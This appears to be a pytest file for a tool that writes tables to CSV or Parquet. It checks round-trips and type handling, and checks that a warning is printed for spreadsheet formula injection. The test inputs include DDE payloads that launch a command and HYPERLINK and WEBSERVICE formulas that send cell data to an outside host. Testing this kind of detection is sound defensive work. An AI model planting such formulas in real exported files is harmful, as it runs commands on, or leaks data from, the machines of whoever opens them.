import csv
import io

import pyarrow.parquet as pq
import pytest

from sorb.cli.table_output import write_table
from sorb.tables.arrow import cells
from sorb.tables.files import open_file

COLUMNS = {
    "id": ["007", 'a "b", c', None, "a\nb\r\nc", "a\rb", "\r"],
    "p": [0.1 + 0.2, 1e-300, None, -1.0, 0.0, 1.0],
}


def test_csv_is_read_back_as_it_was(tmp_path):
    write_table(COLUMNS, tmp_path / "out.csv")
    with open_file(str(tmp_path / "out.csv")) as file:
        table = file.read(as_text=["id"])
    assert {name: cells(table, name) for name in COLUMNS} == COLUMNS


def test_parquet_is_written_if_the_file_is_called_so(tmp_path):
    write_table(COLUMNS, tmp_path / "out.parquet")
    assert pq.read_table(tmp_path / "out.parquet").to_pydict() == COLUMNS


@pytest.mark.parametrize(
    ("column", "expected"),
    [
        ([2**64 - 1, None], [2**64 - 1, None]),
        ([2**64 - 1, -1], ["18446744073709551615", "-1"]),
        (["1", 1, None], ["1", "1", None]),
        ([True, "a"], ["True", "a"]),
        ([True, 2], ["True", "2"]),
        ([2**63 - 1, 0.5], ["9223372036854775807", "0.5"]),
    ],
)
def test_parquet_holds_values_of_several_types_as_texts(column, expected, tmp_path):
    write_table({"a": column}, tmp_path / "out.parquet")
    assert pq.read_table(tmp_path / "out.parquet")["a"].to_pylist() == expected


@pytest.mark.parametrize(
    "text",
    [
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://example.com?"&A1)',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "\t=WEBSERVICE(A1)",
        "＝SUM(A1)",
        "x;=cmd|' /C calc'!A0",
    ],
)
def test_a_formula_is_told_and_kept(text, tmp_path, capsys):
    write_table({"id": ["x", text]}, tmp_path / "out.csv")
    written = csv.reader(io.StringIO((tmp_path / "out.csv").read_text("utf-8")))
    assert list(written) == [["id"], ["x"], [text]]
    assert "a spreadsheet may run" in capsys.readouterr().err


def test_a_formula_may_be_the_name_of_a_column(capsys):
    write_table({"=A(1)": ["x"]}, None)
    assert "in column '=A(1)'" in capsys.readouterr().err


def test_a_formula_is_only_data_in_parquet(tmp_path, capsys):
    write_table({"id": ["=A(1)"]}, tmp_path / "out.parquet")
    assert capsys.readouterr().err == ""


@pytest.mark.parametrize("label", ["-1", "+", "-", "+/-", "-1.5e3", "@home", "=", "a=b(c)", "(-)"])
def test_a_label_that_calls_nothing_is_no_formula(label, capsys):
    write_table({"prediction": [label], "n": [-1.5]}, None)
    assert capsys.readouterr().err == ""


def test_without_a_file_csv_goes_to_standard_output(capsys):
    write_table({"a": [1, 2], "b": ["x", None]}, None)
    assert capsys.readouterr().out == "a,b\n1,x\n2,\n"
